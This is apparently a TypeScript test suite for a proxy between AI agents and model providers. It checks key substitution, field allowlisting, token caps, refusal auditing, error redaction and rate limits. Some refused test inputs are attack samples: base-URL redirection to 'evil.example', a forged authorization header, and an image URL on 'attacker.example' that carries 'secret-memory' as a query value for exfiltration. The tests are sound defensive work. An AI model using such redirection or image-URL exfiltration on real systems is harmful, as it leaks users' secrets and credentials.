import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test, type TestContext } from 'node:test';
import OpenAI from 'openai';
import { pino } from 'pino';
import type { AuditEntry } from '../../src/audit/types.js';
import type { ProviderConfig } from '../../src/config/schema.js';
import { openDatabase } from '../../src/db/database.js';
import { SqliteLedger } from '../../src/ledger/ledger.js';
import { createModelProxy, MAX_CONCURRENT_CALLS_PER_GROUP } from '../../src/proxy/model-proxy.js';
import { MAX_LOGGED_CHARS, REFUSAL_LOG_LINES_PER_MINUTE } from '../../src/proxy/refusal-log.js';
import { FakeModel } from '../fakes/fake-model.js';
import { testGroup } from '../helpers/group-config.js';
import { serveProxy } from '../helpers/proxy-server.js';

const KEY = 'sk-proxy-test-0123456789abcdef';
const CAP = 256;
const group = testGroup({ name: 'g', model: 'allowed-model', fallbacks: ['backup-model'], maxOutputTokens: CAP });
const PRICE = { input: 2, output: 10 };

interface LedgerRow {
  kind: string;
  micros: number;
  tokens: number;
  outcome: string | null;
  model: string;
}

/** The proxy behind a plain HTTP server on 127.0.0.1 (/g/<group>/v1/... -> the group's proxy), a fake model, real SQLite. */
async function startRig(t: TestContext, providers: (fakeUrl: string) => ProviderConfig[]) {
  const model = await FakeModel.start();
  const db = openDatabase(':memory:');
  const audit: AuditEntry[] = [];
  const used: string[] = [];
  const logLines: string[] = [];
  let now = Date.UTC(2030, 0, 15, 12);
  const proxy = createModelProxy({
    groups: () => new Map([[group.name, group]]),
    providers: () => providers(model.baseUrl),
    globalPrices: () => ({}),
    secret: (name) => (name === 'KEY' ? KEY : undefined),
    ledger: new SqliteLedger({ db, groupLimits: () => group.budget, globalLimits: () => ({}), hostTimezone: 'UTC' }),
    audit: { append: (e) => audit.push(e) },
    cooldownMs: 60_000,
    clock: () => now,
    log: pino({ level: 'debug' }, { write: (line: string) => logLines.push(line) }),
    onModelUsed: (g, m, p) => used.push(`${g}:${m}:${p}`),
  });
  const base = (await serveProxy(t, proxy, model, db)).base(group.name);
  return {
    model,
    audit,
    used,
    logLines,
    advance: (ms: number) => (now += ms),
    base,
    ledgerRows: () => db.prepare('SELECT kind, micros, tokens, outcome, model FROM ledger ORDER BY id').all() as LedgerRow[],
    post: (body: unknown, headers: Record<string, string> = {}) =>
      fetch(`${base}/chat/completions`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: typeof body === 'string' ? body : JSON.stringify(body) }),
  };
}

const fakeProvider = (url: string): ProviderConfig[] => [{ name: 'p', baseUrl: url, secret: 'KEY', prices: { 'allowed-model': PRICE, 'backup-model': PRICE }, timeoutSeconds: 5 }];

test('the agent SDK gets its answer; the key is added, only allowlisted fields go upstream, max_tokens is capped', async (t) => {
  const rig = await startRig(t, fakeProvider);
  const client = new OpenAI({ baseURL: rig.base, apiKey: 'enclave-proxy', maxRetries: 0 });
  rig.model.push({ content: 'fine' });
  const answer = await client.chat.completions.create({ model: 'allowed-model', messages: [{ role: 'user', content: 'hi' }] });
  assert.equal(answer.choices[0]!.message.content, 'fine');
  const first = rig.model.requests.at(-1)!;
  assert.equal(first.headers.authorization, `Bearer ${KEY}`, 'the placeholder key is replaced by the real one');
  assert.equal(first.body.max_tokens, CAP, 'max_tokens is set to the group cap when the agent sets none');
  assert.deepEqual(rig.used, ['g:allowed-model:p']);

  rig.model.push({ content: 'second' });
  const res = await rig.post({
    model: 'allowed-model',
    messages: [{ role: 'user', content: 'hi' }],
    max_tokens: 100_000,
    temperature: 0.2,
    tools: [{ type: 'function', function: { name: 'f', parameters: { type: 'object' } } }],
    user: 'someone',
    metadata: { a: 'b' },
    store: true,
    service_tier: 'priority',
    stream_options: { include_usage: true },
  });
  assert.equal(res.status, 200);
  const sent = rig.model.requests.at(-1)!.body;
  assert.deepEqual(Object.keys(sent).sort(), ['max_tokens', 'messages', 'model', 'temperature', 'tools']);
  assert.equal(sent.max_tokens, CAP, 'a larger max_tokens is clamped to the group cap');
  assert.ok(rig.logLines.some((l) => l.includes('fields not forwarded') && l.includes('service_tier')), 'dropped fields are logged at debug');

  rig.model.push({ content: 'third' });
  assert.equal((await rig.post({ model: 'allowed-model', messages: [], max_completion_tokens: 50 })).status, 200);
  const third = rig.model.requests.at(-1)!.body;
  assert.equal(third.max_completion_tokens, 50, 'a smaller cap the agent asked for is kept');
  assert.equal(third.max_tokens, undefined, 'and not doubled as max_tokens');

  const rows = rig.ledgerRows();
  assert.deepEqual(rows.map((r) => r.kind), ['reserve', 'settle', 'reserve', 'settle', 'reserve', 'settle']);
  const settled = rows.filter((r) => r.kind === 'settle');
  assert.ok(settled.every((r) => r.outcome === 'ok' && r.micros === 12 * PRICE.input + 5 * PRICE.output), 'each call is settled to its real usage');
  const calls = rig.audit.filter((e) => e.kind === 'model_call');
  assert.equal(calls.length, 3);
  assert.deepEqual(
    { model: calls[0]!.detail.model, provider: calls[0]!.detail.provider, outcome: calls[0]!.detail.outcome, input: calls[0]!.detail.inputTokens, output: calls[0]!.detail.outputTokens },
    { model: 'allowed-model', provider: 'p', outcome: 'ok', input: 12, output: 5 },
  );
  assert.equal(typeof calls[0]!.detail.reservationId, 'string');
});

test('every refused request is answered by the host, audited, and never reaches the provider or the ledger', async (t) => {
  const rig = await startRig(t, fakeProvider);
  const chat = { model: 'allowed-model', messages: [{ role: 'user', content: 'hi' }] };
  const cases: [string, () => Promise<Response>, number, string][] = [
    ['unknown path', () => fetch(`${rig.base}/files`), 404, 'not_found'],
    ['embeddings', () => fetch(`${rig.base}/embeddings`, { method: 'POST', body: '{}' }), 404, 'not_found'],
    ['body over the cap', () => rig.post({ ...chat, messages: [{ role: 'user', content: 'x'.repeat(5 * 1024 * 1024) }] }), 413, 'body_too_large'],
    ['invalid JSON', () => rig.post('{"model": "allowed-model",'), 400, 'invalid_json'],
    ['not an object', () => rig.post('[1, 2]'), 400, 'invalid_request'],
    ['model outside the group', () => rig.post({ ...chat, model: 'gpt-expensive' }), 403, 'model_not_allowed'],
    ['api_key field', () => rig.post({ ...chat, api_key: 'sk-mine' }), 400, 'field_not_allowed'],
    ['baseURL field', () => rig.post({ ...chat, baseURL: 'http://evil.example' }), 400, 'field_not_allowed'],
    ['provider routing object', () => rig.post({ ...chat, provider: { order: ['x'] } }), 400, 'field_not_allowed'],
    ['extra_headers', () => rig.post({ ...chat, extra_headers: { 'x-api-key': 'k' } }), 400, 'field_not_allowed'],
    ['organization', () => rig.post({ ...chat, organization: 'org-1' }), 400, 'field_not_allowed'],
    ['n > 1', () => rig.post({ ...chat, n: 3 }), 400, 'invalid_request'],
    ['another Authorization', () => rig.post(chat, { authorization: 'Bearer sk-agent-made-this-up' }), 400, 'authorization_not_allowed'],
    ['x-api-key header', () => rig.post(chat, { 'x-api-key': 'sk-mine' }), 400, 'header_not_allowed'],
    ['openai-organization header', () => rig.post(chat, { 'OpenAI-Organization': 'org-1' }), 400, 'header_not_allowed'],
    ['x-base-url header', () => rig.post(chat, { 'x-base-url': 'http://evil.example' }), 400, 'header_not_allowed'],
  ];
  for (const [name, send, status, code] of cases) {
    const res = await send();
    assert.equal(res.status, status, name);
    const body = (await res.json()) as { error: { code: string; message: string } };
    assert.equal(body.error.code, code, name);
    assert.ok(body.error.message.length > 10, `${name}: the agent gets a sentence`);
  }
  assert.equal(rig.model.requests.length, 0, 'nothing reached the provider');
  assert.equal(rig.ledgerRows().length, 0, 'nothing was reserved');
  const denials = rig.audit.filter((e) => e.kind === 'denial');
  assert.deepEqual(denials.map((d) => d.detail.reason), cases.map((c) => c[3]), 'each refusal has its audit row');
  assert.ok(denials.every((d) => d.group === 'g' && d.actor === 'agent:g'));

  const models = await fetch(`${rig.base}/models`, { headers: { authorization: 'Bearer enclave-proxy' } });
  assert.deepEqual(((await models.json()) as { data: { id: string }[] }).data.map((m) => m.id), ['allowed-model', 'backup-model']);
});

test('provider errors reach the agent without the key, the upstream URL or the upstream body; the log has neither', async (t) => {
  const closedPort = await new Promise<number>((resolve) => {
    const s = createServer().listen(0, '127.0.0.1', () => {
      const port = (s.address() as AddressInfo).port;
      s.close(() => resolve(port));
    });
  });
  const deadUrl = `http://127.0.0.1:${closedPort}/v1`;
  const rig = await startRig(t, (url): ProviderConfig[] => [
    { name: 'p', baseUrl: url, secret: 'KEY', models: ['allowed-model'], prices: { 'allowed-model': PRICE }, timeoutSeconds: 5 },
    { name: 'gone', baseUrl: deadUrl, secret: 'KEY', prices: { 'backup-model': PRICE }, timeoutSeconds: 5 },
  ]);
  rig.model.push({ status: 401, body: { error: { message: `bad key ${KEY} at ${rig.model.baseUrl}` } } });
  const res = await rig.post({ model: 'allowed-model', messages: [] });
  assert.equal(res.status, 401);
  const text = await res.text();
  assert.ok(!text.includes(KEY) && !text.includes(rig.model.baseUrl) && !text.includes('bad key'), text);
  assert.match(text, /provider p refused the key configured on the host for allowed-model/);
  assert.equal(rig.model.requests.length, 1, 'a 401 is not retried on another model');

  const unreachable = await rig.post({ model: 'backup-model', messages: [] });
  assert.equal(unreachable.status, 502);
  const why = await unreachable.text();
  assert.match(why, /provider gone is unreachable/);
  assert.ok(!why.includes(String(closedPort)), 'the upstream address is not told');

  const failed = rig.ledgerRows().filter((r) => r.kind === 'settle');
  assert.deepEqual(failed.map((r) => [r.outcome, r.micros]), [['failed', 0], ['failed', 0]], 'failed calls cost nothing');
  const log = rig.logLines.join('\n');
  assert.ok(log.includes('model call failed'), 'the failure is logged');
  assert.ok(!log.includes(KEY) && !log.includes(deadUrl) && !log.includes(`127.0.0.1:${closedPort}`), 'without the key or the upstream');
});

test(`at most ${MAX_CONCURRENT_CALLS_PER_GROUP} calls of one group run at once`, async (t) => {
  const rig = await startRig(t, fakeProvider);
  let release!: () => void;
  const held = new Promise<void>((r) => (release = r));
  // Every answer starts streaming and then waits, so the first calls stay in flight until released.
  rig.model.fallback = () => ({ content: 'slow answer', holdAfterFirstChunk: held });
  const burst = await Promise.all(Array.from({ length: MAX_CONCURRENT_CALLS_PER_GROUP + 2 }, () => rig.post({ model: 'allowed-model', messages: [], stream: true })));
  assert.deepEqual(burst.map((r) => r.status).sort(), [...Array(MAX_CONCURRENT_CALLS_PER_GROUP).fill(200), 429, 429]);
  release();
  const bodies = await Promise.all(burst.map((r) => r.text()));
  assert.equal(bodies.filter((b) => b.includes('data: [DONE]')).length, MAX_CONCURRENT_CALLS_PER_GROUP);
  assert.equal(rig.audit.filter((e) => e.detail.reason === 'too_many_calls').length, 2);
  assert.equal(rig.model.requests.length, MAX_CONCURRENT_CALLS_PER_GROUP);
});

test('only text content reaches the provider: image, audio and file parts are refused and audited', async (t) => {
  const rig = await startRig(t, fakeProvider);
  const ask = (messages: unknown[]) => rig.post({ model: 'allowed-model', messages });
  const leak = 'https://attacker.example/x.png?d=secret-memory';
  const cases: [string, unknown[], number, string, string | undefined][] = [
    ['image_url part', [{ role: 'user', content: [{ type: 'text', text: 'look' }, { type: 'image_url', image_url: { url: leak } }] }], 400, 'content_not_allowed', 'image_url'],
    ['input_audio part', [{ role: 'user', content: [{ type: 'input_audio', input_audio: { data: 'AAAA', format: 'wav' } }] }], 400, 'content_not_allowed', 'input_audio'],
    ['file part', [{ role: 'user', content: [{ type: 'file', file: { file_id: 'file-1' } }] }], 400, 'content_not_allowed', 'file'],
    ['unknown part type', [{ role: 'system', content: [{ type: 'video', video: 'x' }] }], 400, 'content_not_allowed', 'video'],
    ['refusal part from the user', [{ role: 'user', content: [{ type: 'refusal', refusal: 'no' }] }], 400, 'content_not_allowed', 'refusal'],
    ['image in a tool result', [{ role: 'tool', tool_call_id: 'c1', content: [{ type: 'image_url', image_url: { url: leak } }] }], 400, 'content_not_allowed', 'image_url'],
    ['audio on an assistant message', [{ role: 'assistant', content: null, audio: { id: 'audio_1' } }], 400, 'content_not_allowed', 'audio'],
    ['a part without a type', [{ role: 'user', content: [{ text: 'hi' }] }], 400, 'content_not_allowed', 'undefined'],
    ['a text part without text', [{ role: 'user', content: [{ type: 'text', text: 42 }] }], 400, 'invalid_request', undefined],
    ['a message that is not an object', ['hello'], 400, 'invalid_request', undefined],
  ];
  for (const [name, messages, status, code] of cases) {
    const res = await ask(messages);
    assert.equal(res.status, status, name);
    const body = (await res.json()) as { error: { code: string; message: string } };
    assert.equal(body.error.code, code, name);
    assert.ok(!body.error.message.includes(leak), `${name}: the URL is not echoed`);
  }
  assert.equal(rig.model.requests.length, 0, 'nothing reached the provider');
  assert.equal(rig.ledgerRows().length, 0, 'nothing was reserved');
  const denials = rig.audit.filter((e) => e.kind === 'denial');
  assert.deepEqual(denials.map((d) => [d.detail.reason, d.detail.partType]), cases.map((c) => [c[3], c[4]]));
  assert.deepEqual([denials[0]!.detail.messageIndex, denials[0]!.detail.partIndex, denials[0]!.detail.model], [0, 1, 'allowed-model']);
  assert.ok(!JSON.stringify(denials).includes(leak), 'the audit row names the part type, not its URL');
});

test('only function tools are forwarded: a provider-hosted tool is refused before any upstream call', async (t) => {
  const rig = await startRig(t, fakeProvider);
  const messages = [{ role: 'user', content: 'search the web' }];
  const hosted = await rig.post({ model: 'allowed-model', messages, tools: [{ type: 'web_search_preview' }] });
  assert.equal(hosted.status, 400);
  assert.equal(((await hosted.json()) as { error: { code: string } }).error.code, 'tool_not_allowed');
  const fn = { type: 'function', function: { name: 'f', parameters: { type: 'object', properties: {} } } };
  assert.equal((await rig.post({ model: 'allowed-model', messages, tools: [fn] })).status, 200);
  assert.equal(rig.model.requests.length, 1, 'only the function-tool call went upstream');
  assert.ok(rig.audit.some((e) => e.kind === 'denial' && e.detail.reason === 'tool_not_allowed'));
});

test('schema references and over-long tool names are refused before any upstream call; a property named like a keyword is fine', async (t) => {
  const rig = await startRig(t, fakeProvider);
  const messages = [{ role: 'user', content: 'hi' }];
  const tool = (name: string, parameters: unknown) => ({ type: 'function', function: { name, parameters } });
  // Each level refers to the one below twice: inlined, the schema doubles per level.
  const defs = Object.fromEntries(Array.from({ length: 30 }, (_, i) => [`l${i}`, { type: 'object', properties: { a: { $ref: `#/$defs/l${i + 1}` }, b: { $ref: `#/$defs/l${i + 1}` } } }]));
  const refused: Array<[string, Record<string, unknown>, string, RegExp]> = [
    ['$defs in a tool', { tools: [tool('f', { type: 'object', $defs: defs, properties: { x: { $ref: '#/$defs/l0' } } })] }, 'schema_not_allowed', /tools\[0\]\.function\.parameters\.\$defs/],
    ['$ref deep in a tool', { tools: [tool('f', { type: 'object', properties: { x: { type: 'array', items: { $ref: '#' } } } })] }, 'schema_not_allowed', /properties\.x\.items\.\$ref/],
    ['definitions in response_format', { response_format: { type: 'json_schema', json_schema: { name: 'r', schema: { definitions: defs } } } }, 'schema_not_allowed', /response_format\.json_schema\.schema\.definitions/],
    ['a long tool name', { tools: [tool('f'.repeat(65), { type: 'object' })] }, 'invalid_request', /at most 64 characters; tools\[0\]\.function\.name has 65/],
    ['a long name in an earlier tool call', { messages: [...messages, { role: 'assistant', content: null, tool_calls: [{ id: 'c', type: 'function', function: { name: 'g'.repeat(1000), arguments: '{}' } }] }, { role: 'tool', tool_call_id: 'c', content: 'x' }] }, 'invalid_request', /messages\[1\]\.tool_calls\[0\]\.function\.name has 1000/],
  ];
  for (const [name, body, code, message] of refused) {
    const res = await rig.post({ model: 'allowed-model', messages, ...body });
    const error = ((await res.json()) as { error: { code: string; message: string } }).error;
    assert.equal(res.status, 400, name);
    assert.equal(error.code, code, name);
    assert.match(error.message, message, name);
  }
  assert.equal(rig.model.requests.length, 0, 'nothing went upstream');
  const fine = tool('f'.repeat(64), { type: 'object', properties: { definitions: { type: 'string' }, $ref: { type: 'string' } } });
  assert.equal((await rig.post({ model: 'allowed-model', messages, tools: [fine] })).status, 200, 'properties named definitions and $ref are data, not references');
});

test('text given as a list of parts is forwarded unchanged, with tool calls, tool results and assistant refusals', async (t) => {
  const rig = await startRig(t, fakeProvider);
  const client = new OpenAI({ baseURL: rig.base, apiKey: 'enclave-proxy', maxRetries: 0 });
  const messages: OpenAI.Chat.ChatCompletionMessageParam[] = [
    { role: 'system', content: [{ type: 'text', text: 'be brief' }] },
    { role: 'user', content: [{ type: 'text', text: 'first' }, { type: 'text', text: 'second' }] },
    { role: 'assistant', content: [{ type: 'refusal', refusal: 'I cannot' }] },
    { role: 'assistant', content: null, tool_calls: [{ id: 'c1', type: 'function', function: { name: 'f', arguments: '{}' } }] },
    { role: 'tool', tool_call_id: 'c1', content: [{ type: 'text', text: 'tool output' }] },
    { role: 'user', content: 'plain string' },
  ];
  rig.model.push({ content: 'read it all' });
  const answer = await client.chat.completions.create({ model: 'allowed-model', messages });
  assert.equal(answer.choices[0]!.message.content, 'read it all');
  assert.deepEqual(rig.model.requests[0]!.body.messages, messages);
  assert.equal(rig.audit.filter((e) => e.kind === 'denial').length, 0);
});

test('a flood of refusals is logged at most 20 times a minute per group, with the path cut short', async (t) => {
  const rig = await startRig(t, fakeProvider);
  const longPath = `/files?${'x'.repeat(5_000)}`;
  const floods = REFUSAL_LOG_LINES_PER_MINUTE + 5;
  for (let i = 0; i < floods; i++) assert.equal((await fetch(`${rig.base}${longPath}`)).status, 404);
  const refusedLines = () => rig.logLines.map((l) => JSON.parse(l) as { msg: string; path?: string; suppressed?: number }).filter((l) => l.msg.includes('refused'));
  assert.equal(refusedLines().length, REFUSAL_LOG_LINES_PER_MINUTE, 'the lines past the limit are held back');
  for (const line of refusedLines()) assert.ok(line.path!.length <= MAX_LOGGED_CHARS + 3, `a logged path of ${line.path!.length} characters`);
  const denials = rig.audit.filter((e) => e.kind === 'denial');
  assert.equal(denials.length, floods, 'every refusal is still audited (the host throttles the audit sink itself)');
  assert.ok(denials.every((d) => String(d.detail.path).length <= MAX_LOGGED_CHARS + 3));

  rig.advance(60_000);
  assert.equal((await fetch(`${rig.base}/files`)).status, 404);
  const [summary, next] = refusedLines().slice(REFUSAL_LOG_LINES_PER_MINUTE);
  assert.equal(summary!.suppressed, 5, 'one line counts the refusals that were not logged');
  assert.match(summary!.msg, /^5 more model requests refused/);
  assert.equal(next!.path, '/v1/files', 'a new minute logs refusals one by one again');
});
